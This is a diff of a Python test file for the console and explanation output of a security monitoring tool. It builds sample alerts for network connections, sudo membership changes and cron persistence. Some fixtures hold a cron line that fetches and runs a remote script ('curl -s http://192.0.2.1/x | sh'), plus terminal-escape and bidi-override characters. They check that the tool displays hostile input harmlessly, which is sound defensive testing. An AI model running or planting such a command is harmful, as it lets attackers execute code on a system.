@@ -10,21 +10,35 @@ from typing import TextIO, cast, get_args
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
-from msgspec.structs import replace
+from msgspec import Struct
+from msgspec.structs import fields, replace
 from rich.cells import cell_len
 from rich.console import Console
 
 from shield.event import (
+    Account,
     Ancestor,
+    Auth,
     Container,
     Data,
+    Dns,
     Event,
     Evidence,
+    File,
     Health,
     Ledger,
+    Log,
     Loss,
+    Module,
+    Network,
+    Pe,
+    Persistence,
+    Privilege,
     Process,
+    Provenance,
+    Registry,
     Signal,
+    System,
     Tamper,
     User,
     uuid7,
@@ -32,7 +46,7 @@ from shield.event import (
 from shield.exporter.background import NonBlockingWriter
 from shield.exporter.console import DEFAULT_ADVICE, ConsoleView
 from shield.exporter.explanation import Worth, explain
-from shield.exporter.wording import PLAIN, UNICODE, fit, harmless_json
+from shield.exporter.wording import PLAIN, UNICODE, fit, halved, harmless_json
 
 SECOND = 1_000_000_000
 NOW = 1_795_529_002 * SECOND
@@ -231,6 +245,69 @@ def test_every_category_can_be_shown_without_any_data(category: str) -> None:
     Screen().console.print(explain(bare))
 
 
+CONNECTED = replace(
+    ALERT,
+    category="network_connection",
+    data=replace(
+        ALERT.data,
+        network=Network("tcp", "10.0.0.5", 5, "", "203.0.113.9", 443, "example.org", True, "opened"),
+        container=Container("1f2e3d4c5b6a" + "0" * 52, "", "containerd", "7b1c", "front-1", "web"),
+    ),
+)
+JOINED = replace(
+    ALERT,
+    category="account_change",
+    data=Data(account=Account("membership", "sudo", "member_added", 27, "alice", privileged=True)),
+)
+
+
+def test_the_card_of_what_a_process_did_says_what_by_whom_and_from_where() -> None:
+    card = labelled(shown(CONNECTED).lines)
+    assert card["what"] == "true connected to 203.0.113.9:443 (example.org) over tcp"
+    assert card["by"] == "/tmp/true, pid 4242"
+    assert card["cmd"] == "/tmp/true --flag"
+    assert card["who"] == "www-data (uid 33), container 1f2e3d4c5b6a (containerd), pod web/front-1"
+    assert card["from"] == "systemd -> nginx -> dash -> true"
+
+
+def test_a_card_reads_well_where_nobody_knows_who_did_it() -> None:
+    card = labelled(shown(JOINED).lines)
+    assert card["what"] == "alice joined group sudo (privileged)"
+    assert not card.keys() & {"by", "cmd", "who", "from", "parent"}
+
+
+def test_a_long_sentence_goes_on_in_a_second_line() -> None:
+    job = Persistence(
+        "cron", "/etc/cron.d/backup", "added", "", "curl -s http://192.0.2.1/x | sh; " * 3 + "id", "@daily", "root"
+    )
+    event = replace(JOINED, category="persistence_change", data=Data(persistence=job))
+    lines = shown(event).lines
+    assert lines[1].startswith(
+        "  what   cron job added in /etc/cron.d/backup: @daily root curl -s http://192.0.2.1/x | sh"
+    )
+    assert lines[2].startswith("         ")
+    assert lines[2].endswith("| sh; id")
+    assert lines[3].startswith("  why ")
+
+
+def test_what_happened_is_told_on_one_line_too() -> None:
+    quiet = {"action": "ALLOW", "score": 0, "signals": (), "story": ()}
+    lines = shown(replace(CONNECTED, **quiet), replace(JOINED, **quiet), everything=True).lines
+    assert lines == [
+        "14:03:22Z ALLOW 0   true connected to 203.0.113.9:443 (example.org) over tcp  (pid 4242)",
+        "14:03:22Z ALLOW 0   alice joined group sudo (privileged)",
+    ]
+
+
+def test_repeats_that_are_about_something_else_say_so() -> None:
+    one, other = (
+        replace(CONNECTED, category="file_write", rationale="x_written", data=Data(file=File(path)))
+        for path in ("/a", "/b")
+    )
+    assert "(the last: an unknown process wrote /b) within 60 s of" in shown(one, one, other).lines[-1]
+    assert "the last" not in shown(one, other, one).lines[-1]
+
+
 def test_repeats_within_a_minute_are_counted_and_told() -> None:
     repeats = [replace(ALERT, ts_ns=NOW + second * SECOND) for second in range(15)]
     later = replace(ALLOW, ts_ns=NOW + 61 * SECOND)
@@ -358,10 +435,99 @@ def test_an_explanation_has_every_reason_with_its_arithmetic() -> None:
     assert positions == sorted(positions)
 
 
+def explained(event: Event, *, terminal: bool = False, width: int = 100) -> Screen:
+    screen = Screen(terminal=terminal, width=width)
+    screen.console.print(explain(event), soft_wrap=True)
+    return screen
+
+
+PARTS = (Account, Auth, Dns, File, Log, Module, Network, Pe, Persistence, Privilege, Provenance, Registry, System)
+
+
+def filled(kind: type[Struct], text: str) -> Struct:
+    """A part with something in each field; every free text begins with the field's own name."""
+    values: dict[str, object] = {}
+    for field in fields(kind):
+        choices = [each for each in get_args(field.type) if isinstance(each, str)]
+        if field.type is str:
+            values[field.name] = f"{field.name}-{text}"
+        elif choices:
+            values[field.name] = choices[-1]
+        elif field.type is bool or bool in get_args(field.type):
+            values[field.name] = True
+        elif field.type is int or int in get_args(field.type):
+            values[field.name] = 4321
+        elif field.type == tuple[str, ...]:
+            values[field.name] = (f"{field.name}-{text}",) * 2
+        else:
+            values[field.name] = {f"key-{text}": f"{field.name}-{text}"}
+    return kind(**values)
+
+
+def with_part(kind: type[Struct], text: str) -> Event:
+    part = filled(kind, text)
+    if isinstance(part, (Provenance, Pe)):
+        return replace(CONNECTED, data=Data(process=Process(1, **{kind.__name__.lower(): part})))
+    return replace(CONNECTED, data=Data(**{kind.__name__.lower(): part}))
+
+
+@pytest.mark.parametrize("kind", PARTS, ids=lambda kind: kind.__name__)
+def test_an_explanation_leaves_no_field_of_a_part_out(kind: type[Struct]) -> None:
+    told = explained(with_part(kind, "told")).raw
+    for field in fields(kind):
+        assert f"{field.name.removesuffix('_ns').replace('_', ' ')} " in told
+        if field.type is str:
+            assert f"{field.name}-told" in told
+
+
+@pytest.mark.parametrize("kind", PARTS, ids=lambda kind: kind.__name__)
+@pytest.mark.parametrize("terminal", [False, True])
+def test_an_explanation_of_a_hostile_part_is_harmless_and_bounded(kind: type[Struct], terminal: bool) -> None:
+    hostile = with_part(kind, HOSTILE)
+    for screen in (explained(hostile, terminal=terminal, width=80), shown(hostile, terminal=terminal, width=80)):
+        text = "".join(screen.lines)
+        assert not [each for each in text if unicodedata.category(each) in ("Cc", "Cf", "Cs", "Co")]
+        assert not terminal or max(map(cell_len, screen.lines)) <= 80
+    assert len(shown(hostile, terminal=terminal, width=80).lines) <= 18
+
+
+def test_values_are_explained_in_the_units_people_use() -> None:
+    network = Network(bytes_sent=3_400_000, bytes_received=0, duration_ns=125 * SECOND, initiated=False)
+    file = File("/x", mode=0o104755, hashes={"sha256": "abc"}, created_ns=NOW)
+    lines = explained(replace(CONNECTED, data=Data(network=network, file=file))).lines
+    told = {line[2:22].strip(): line[22:] for line in lines if line.startswith("  ")}
+    assert told["bytes sent"] == "3.4 MB, 3,400,000 bytes"
+    assert told["bytes received"] == "0 B"
+    assert told["duration"] == "2 min 5 s"
+    assert told["initiated"] == "no"
+    assert told["mode"] == "4755"
+    assert told["hashes"] == "sha256 = abc"
+    assert told["created"] == "2026-11-24T14:03:22Z"
+
+
+def test_a_difference_is_explained_line_by_line() -> None:
+    diff = "@@ -1,1 +1,2 @@\n root:x\n+* * * * * root \x1b[2Jcurl \u202e| sh\n" + "+more\n" * 300
+    event = replace(
+        JOINED, data=Data(persistence=Persistence("cron", "/etc/cron.d/x", "changed", diff=diff.rstrip("\n")))
+    )
+    lines = explained(event).lines
+    at = lines.index("    @@ -1,1 +1,2 @@")
+    assert lines[at - 1] == "  diff                303 lines"
+    assert lines[at + 1 : at + 3] == ["     root:x", "    +* * * * * root \\x1b[2Jcurl \\u202e| sh"]
+    assert "    and 103 more lines" in lines
+    assert "\x1b[32m+* * * * * root" in explained(event, terminal=True).raw
+
+
 @given(st.text(), st.integers(1, 40))
 def test_fitted_text_never_exceeds_its_width(text: str, width: int) -> None:
     for glyphs in (UNICODE, PLAIN):
         assert cell_len(fit(text, width, glyphs)) <= width
+
+
+@given(st.text(), st.integers(4, 40))
+def test_text_on_two_lines_never_exceeds_their_width(text: str, width: int) -> None:
+    for part in halved(text, width, PLAIN):
+        assert cell_len(part) <= width
 
 
 def test_fitted_text_keeps_both_ends() -> None:
